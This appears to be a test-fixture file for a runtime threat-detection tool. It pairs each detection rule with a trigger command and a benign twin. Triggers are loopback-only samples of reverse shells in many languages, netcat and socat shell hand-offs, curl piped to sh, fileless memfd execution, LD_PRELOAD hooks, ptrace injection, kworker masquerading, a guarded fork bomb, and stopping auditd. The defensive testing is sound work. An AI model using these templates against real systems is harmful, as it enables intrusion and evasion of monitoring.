/** Programs that are started, and how. */
import { type Behaviour, calls, impostor, python } from './behaviour.ts';

export const behaviours: Behaviour[] = [
  {
    rule: 'Shell started by a web server',
    trigger: `mkdir -p /opt/impostors && cp /bin/sh /opt/impostors/nginx && /opt/impostors/nginx -c 'sh -c id; :'`,
    twin: `sh -c 'sh -c id; :'`,
  },
  {
    rule: 'Shell started by a database',
    trigger: `mkdir -p /opt/impostors && cp /bin/sh /opt/impostors/redis-server && /opt/impostors/redis-server -c 'sh -c id; :'`,
    twin: `sh -c 'sh -c id; :'`,
  },
  {
    rule: 'Shell started by a Java program',
    trigger: `mkdir -p /opt/impostors && cp /bin/sh /opt/impostors/java && /opt/impostors/java -c 'sh -c id; :'`,
    twin: `mkdir -p /opt/impostors && cp /bin/sh /opt/impostors/java && /opt/impostors/java -c 'id; :'`,
  },
  {
    rule: 'Shell that talks to the network',
    trigger: python(`import os, socket
server = socket.socket(); server.bind(("127.0.0.1", 0)); server.listen(1)
client = socket.create_connection(server.getsockname())
if os.fork() == 0:
    for fd in (0, 1, 2): os.dup2(client.fileno(), fd)
    os.execv("/bin/sh", ["sh", "-c", "id"])
os.wait()`),
    twin: python(`import os
ours, theirs = os.pipe()
if os.fork() == 0:
    os.dup2(ours, 0)
    os.execv("/bin/sh", ["sh", "-c", "id"])
os.wait()`),
  },
  {
    rule: 'Interpreter that talks to the network',
    trigger: python(`import os, socket
server = socket.socket(); server.bind(("127.0.0.1", 0)); server.listen(1)
client = socket.create_connection(server.getsockname())
if os.fork() == 0:
    os.dup2(client.fileno(), 0)
    os.execvp("perl", ["perl", "-e", "1"])
os.wait()`),
    twin: python(`import subprocess
subprocess.run(["perl", "-e", "1"], stdin=subprocess.DEVNULL)`),
  },
  {
    rule: 'Network connection made a standard stream',
    trigger: python(`import os, socket
server = socket.socket(); server.bind(("127.0.0.1", 0)); server.listen(1)
client = socket.create_connection(server.getsockname())
os.dup2(client.fileno(), 0)`),
    twin: python(`import os
ours, theirs = os.pipe()
os.dup2(ours, 0)`),
  },
  {
    rule: 'Shell connects to the network by itself',
    trigger: `bash -c 'exec 3<>/dev/tcp/127.0.0.1/9' || true`,
    twin: `bash -c 'exec 3</dev/null; curl -s http://127.0.0.1:9/ || true'`,
  },
  {
    rule: 'Shell command names a network device',
    trigger: `bash -c 'echo > /dev/udp/127.0.0.1/9' || true`,
    twin: `bash -c 'echo > /dev/null'`,
  },
  {
    rule: 'Netcat hands a connection to a program',
    trigger: impostor('nc', '-e /bin/sh 127.0.0.1 4444'),
    twin: impostor('nc', '-z 127.0.0.1 4444'),
  },
  {
    rule: 'Socat hands a connection to a program',
    trigger: impostor('socat', 'TCP:127.0.0.1:4444 EXEC:/bin/sh,pty'),
    twin: impostor('socat', 'TCP-LISTEN:4444 TCP:127.0.0.1:80'),
  },
  {
    rule: 'Reverse shell in Python',
    trigger: `python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect_ex(("127.0.0.1",9));subprocess.run(["sh","-c","id"])'`,
    twin: `python3 -c 'import socket; print(socket.gethostname())'`,
  },
  {
    rule: 'Reverse shell in Perl',
    trigger: `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,sockaddr_in(9,inet_aton("127.0.0.1")));exec("/bin/sh","-c","id");'`,
    twin: `perl -e 'use Socket; print inet_ntoa(inet_aton("127.0.0.1"));'`,
  },
  {
    rule: 'Reverse shell in Ruby',
    trigger: impostor('ruby', `-rsocket -e 'c=TCPSocket.new("127.0.0.1",9);exec "/bin/sh"'`),
    twin: impostor('ruby', `-e 'puts 1'`),
  },
  {
    rule: 'Reverse shell in PHP',
    trigger: impostor('php', `-r '$s=fsockopen("127.0.0.1",9);exec("/bin/sh -i <&3 >&3");'`),
    twin: impostor('php', `-r 'echo 1;'`),
  },
  {
    rule: 'Reverse shell in JavaScript',
    trigger: impostor(
      'node',
      `-e 'require("net").connect(9,"127.0.0.1",function(){require("child_process").spawn("/bin/sh")})'`,
    ),
    twin: impostor('node', `-e 'console.log(require("net").isIP("127.0.0.1"))'`),
  },
  {
    rule: 'Reverse shell in Lua',
    trigger: impostor('lua', `-e 'local s=require("socket").tcp();s:connect("127.0.0.1","9");os.execute("/bin/sh")'`),
    twin: impostor('lua', `-e 'print(1)'`),
  },
  {
    rule: 'Reverse shell in awk',
    trigger: impostor('gawk', `'BEGIN{s="/inet/tcp/0/127.0.0.1/9";s|&getline c;system(c)}'`),
    twin: impostor('gawk', `'BEGIN{print 1}'`),
  },
  {
    rule: 'OpenSSL used as a channel for a shell',
    trigger: 'echo | openssl s_client -quiet -connect 127.0.0.1:9 2>&1; true',
    twin: 'openssl version; echo | openssl s_client -connect 127.0.0.1:9 2>&1; true',
  },
  {
    rule: 'Shell with a terminal in a container',
    trigger: python('import pty\npty.spawn(["/bin/sh", "-c", "id"])'),
    twin: python('import subprocess\nsubprocess.run(["/bin/sh", "-c", "id"])'),
  },
  {
    rule: 'Interactive shell without a terminal',
    trigger: 'echo id | setsid -w sh -i',
    twin: 'echo id | setsid -w sh',
  },
  {
    rule: 'Download piped into an interpreter',
    trigger: `sh -c 'curl -s http://127.0.0.1:9/x | sh'`,
    twin: `sh -c 'curl -s http://127.0.0.1:9/x | sha256sum'`,
  },
  {
    rule: 'Download made executable in one command',
    trigger: `sh -c 'curl -s -o /tmp/fetched http://127.0.0.1:9/x; chmod +x /tmp/fetched; true'`,
    twin: `sh -c 'curl -s -o /tmp/fetched http://127.0.0.1:9/x; chmod 644 /tmp/fetched; true'`,
  },
  {
    rule: 'Program run from shared memory',
    box: 'privileged',
    trigger: 'mount -o remount,exec /dev/shm; cp /bin/true /dev/shm/worker; /dev/shm/worker; rm -f /dev/shm/worker',
    twin: 'cp /bin/true /usr/local/bin/worker; /usr/local/bin/worker; rm -f /usr/local/bin/worker',
  },
  {
    rule: 'Program run from a temporary directory',
    trigger: 'cp /bin/true /tmp/worker; /tmp/worker; rm -f /tmp/worker',
    twin: 'cp /bin/true /usr/local/bin/worker; /usr/local/bin/worker; rm -f /usr/local/bin/worker',
  },
  {
    rule: 'Script run from shared memory',
    trigger: 'echo id > /dev/shm/job; sh /dev/shm/job; rm -f /dev/shm/job',
    twin: 'echo id > /opt/job; sh /opt/job; rm -f /opt/job',
  },
  {
    rule: 'Script run from a hidden file',
    trigger: 'echo id > /tmp/.job; sh /tmp/.job; rm -f /tmp/.job',
    twin: 'echo id > /tmp/job; sh /tmp/job; rm -f /tmp/job',
  },
  {
    rule: 'Program run from a file in memory',
    trigger: python(`import os
fd = os.memfd_create("payload")
os.write(fd, open("/bin/true", "rb").read())
os.execve(fd, ["payload"], {})`),
    twin: python(`import os
os.execv("/bin/true", ["true"])`),
  },
  {
    rule: 'File in memory made by an interpreter',
    trigger: python('import os; os.memfd_create("payload")'),
    twin: python('import os; open("/tmp/payload", "w").close(); os.unlink("/tmp/payload")'),
  },
  {
    rule: "Program run from a descriptor's path",
    trigger: python(`import os
import shutil
shutil.copy("/bin/true", "/opt/gone")
fd = os.open("/opt/gone", os.O_RDONLY)
os.unlink("/opt/gone")
os.execve(fd, ["gone"], {})`),
    twin: python(`import os
os.execv("/bin/true", ["/bin/true"])`),
  },
  {
    rule: 'Hidden program',
    trigger: 'cp /bin/true /opt/.true; /opt/.true; rm -f /opt/.true',
    twin: 'cp /bin/true /opt/true; /opt/true; rm -f /opt/true',
  },
  {
    rule: 'Program in a hidden directory of a temporary one',
    trigger: 'mkdir -p /tmp/.X1-unix; cp /bin/true /tmp/.X1-unix/t; /tmp/.X1-unix/t; rm -rf /tmp/.X1-unix',
    twin: 'mkdir -p /tmp/build; cp /bin/true /tmp/build/t; /tmp/build/t; rm -rf /tmp/build',
  },
  {
    rule: 'Program with blanks in its name',
    trigger: `cp /bin/true '/opt/sshd '; '/opt/sshd '; rm -f '/opt/sshd '`,
    twin: 'cp /bin/true /opt/sshd; /opt/sshd; rm -f /opt/sshd',
  },
  {
    rule: 'Process named like a kernel thread',
    trigger: `bash -c 'exec -a "[kworker/0:1]" true'`,
    twin: `bash -c 'exec -a worker true'`,
  },
  {
    rule: 'Process renames itself like a kernel thread',
    trigger: calls('libc.prctl(15, b"kworker/0:1", 0, 0, 0)'),
    twin: calls('libc.prctl(15, b"worker", 0, 0, 0)'),
  },
  {
    rule: "System program's name in a temporary directory",
    trigger: 'cp /bin/true /tmp/sshd; /tmp/sshd; rm -f /tmp/sshd',
    twin: 'cp /bin/true /tmp/tool; /tmp/tool; rm -f /tmp/tool',
  },
  {
    rule: 'Name of a process does not fit its program',
    trigger: `bash -c 'exec -a /usr/sbin/sshd sleep 0'`,
    twin: `bash -c 'exec -a /usr/bin/sleep sleep 0'`,
  },
  {
    rule: 'Library forced into a program from a temporary directory',
    trigger: 'LD_PRELOAD=/tmp/hook.so /bin/true 2>&1',
    twin: 'LD_PRELOAD= /bin/true',
  },
  {
    rule: "Linker's audit library set",
    trigger: 'LD_AUDIT=/opt/hook.so /bin/true 2>&1',
    twin: 'LD_DEBUG=statistics /bin/true 2>&1',
  },
  {
    rule: 'Libraries looked for in a temporary directory',
    trigger: 'LD_LIBRARY_PATH=/tmp/lib /bin/true',
    twin: 'LD_LIBRARY_PATH=/opt/lib /bin/true',
  },
  {
    rule: 'Environment makes an interpreter load a file',
    trigger: 'echo : > /tmp/env.sh; BASH_ENV=/tmp/env.sh bash -c true',
    twin: 'echo : > /opt/env.sh; BASH_ENV=/opt/env.sh bash -c true',
  },
  {
    rule: 'Shell decodes what it runs',
    trigger: `sh -c 'echo aWQ= | base64 -d | sh'`,
    twin: `sh -c 'echo aWQ= | base64 -d'`,
  },
  {
    rule: 'Interpreter decodes what it runs',
    trigger: `python3 -c 'import base64;exec(base64.b64decode("cHJpbnQoMSk="))'`,
    twin: `python3 -c 'import base64;print(base64.b64decode("cHJpbnQoMSk="))'`,
  },
  {
    rule: 'Command written in escapes',
    trigger: `bash -c '$(printf "\\x74\\x72\\x75\\x65\\x20\\x78\\x79")'`,
    twin: `bash -c 'printf "true\\n"'`,
  },
  {
    rule: 'Very long program as an argument',
    trigger: `python3 -c "x='$(head -c 20000 /dev/zero | tr '\\0' a)'"`,
    twin: `python3 -c "x='$(head -c 200 /dev/zero | tr '\\0' a)'"`,
  },
  {
    rule: 'Debugger in a container',
    trigger: impostor('strace', '-p 1'),
    twin: impostor('stat', '/tmp'),
  },
  {
    rule: 'Process attached to by another',
    trigger: calls(`child = os.fork()
if child == 0:
    os.execvp("sleep", ["sleep", "1"])
libc.ptrace(16, child, 0, 0)
os.waitpid(child, 0x40000000)
libc.ptrace(17, child, 0, 0)
os.kill(child, 9)`),
    twin: calls(`child = os.fork()
if child == 0:
    os.execvp("sleep", ["sleep", "0"])
os.waitpid(child, 0)`),
  },
  {
    rule: 'Code or registers of another process changed',
    trigger: calls(`import ctypes
child = os.fork()
if child == 0:
    os.execvp("sleep", ["sleep", "1"])
libc.ptrace(16, child, 0, 0)
os.waitpid(child, 0x40000000)
libc.ptrace(4, child, ctypes.c_void_p(0x1000), ctypes.c_void_p(0))
libc.ptrace(17, child, 0, 0)
os.kill(child, 9)`),
    twin: calls(`child = os.fork()
if child == 0:
    os.execvp("sleep", ["sleep", "1"])
libc.ptrace(16, child, 0, 0)
os.waitpid(child, 0x40000000)
libc.ptrace(17, child, 0, 0)
os.kill(child, 9)`),
  },
  {
    rule: 'Process keeps debuggers away',
    trigger: calls('libc.ptrace(0, 0, 0, 0)'),
    twin: calls('libc.getpid()'),
  },
  {
    rule: 'Memory of another process written',
    trigger: calls('libc.process_vm_writev(os.getppid(), None, 0, None, 0, 0)'),
    twin: calls('libc.writev(1, None, 0)'),
  },
  {
    rule: 'Memory of a process written through its file',
    trigger: python('open("/proc/self/mem", "r+b", buffering=0).close()'),
    twin: python('open("/tmp/mem", "w+b", buffering=0).close()'),
  },
  {
    rule: 'Compiler in a running container',
    trigger: impostor('gcc', '-o /tmp/exploit exploit.c'),
    twin: impostor('greet'),
  },
  {
    rule: 'Program that the image did not bring',
    trigger: 'cp /bin/true /usr/local/bin/added; /usr/local/bin/added; rm -f /usr/local/bin/added',
    twin: 'true; /bin/true',
  },
  {
    rule: 'Program run as soon as it was written',
    trigger: `cp /bin/true /usr/local/bin/fresh; sh -c '/usr/local/bin/fresh; :'; rm -f /usr/local/bin/fresh`,
    twin: `sh -c '/bin/true; :'`,
  },
  {
    rule: 'Program started through the linker',
    trigger:
      'for ld in /lib64/ld-linux-x86-64.so.2 /lib/ld-linux-aarch64.so.1; do test ! -e $ld || $ld /bin/true; done',
    twin: 'for ld in /lib64/ld-linux-x86-64.so.2 /lib/ld-linux-aarch64.so.1; do test ! -e $ld || /bin/true $ld; done',
  },
  {
    rule: 'Terminal made for a shell by a script',
    trigger: `python3 -c 'import pty; pty.spawn(["true"])'`,
    twin: `python3 -c 'import subprocess; subprocess.run(["true"])'`,
  },
  {
    rule: 'Everyday program used to get a shell',
    trigger: `awk 'BEGIN {system("/bin/sh -c id")}' </dev/null`,
    twin: `awk 'BEGIN {print "id"}' </dev/null`,
  },
  {
    rule: 'Program started without a name',
    trigger: calls(`import ctypes
libc.execve(b"/bin/true", (ctypes.c_char_p * 1)(None), (ctypes.c_char_p * 1)(None))`),
    twin: python('import os; os.execv("/bin/true", ["true"])'),
  },
  {
    rule: 'Tool of intruders',
    trigger: impostor('deepce.sh', '--no-network'),
    twin: impostor('deep.sh', '--no-network'),
  },
  {
    rule: 'Security tool stopped',
    trigger: 'pkill -x auditd-none || true',
    twin: 'pkill -x worker-none || true',
  },
  {
    rule: 'Every process signalled at once',
    trigger: python(`import os
os.setuid(54321)
try: os.kill(-1, 9)
except OSError: pass`),
    twin: python(`import os
os.kill(os.getpid(), 0)`),
  },
  {
    rule: 'Fork bomb',
    trigger: `sh -c 'true || eval ":(){ :|:& };:"'`,
    twin: `sh -c 'true || eval ":(){ :; };:"'`,
  },
  {
    rule: 'History of commands switched off',
    trigger: 'HISTFILE=/dev/null bash -c true',
    twin: 'HISTFILE=/root/.bash_history bash -c true',
  },
];
